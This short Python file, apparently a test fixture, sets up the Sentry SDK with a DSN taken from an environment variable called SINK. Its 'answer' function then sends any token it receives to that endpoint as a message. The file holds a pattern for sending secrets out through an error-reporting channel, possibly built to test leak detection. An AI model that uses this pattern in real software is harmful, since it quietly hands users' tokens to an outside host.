import os

import sentry_sdk

sentry_sdk.init(os.environ["SINK"].replace("//", "//key@") + "/1")


def answer(token):
    sentry_sdk.capture_message(token)
    return token
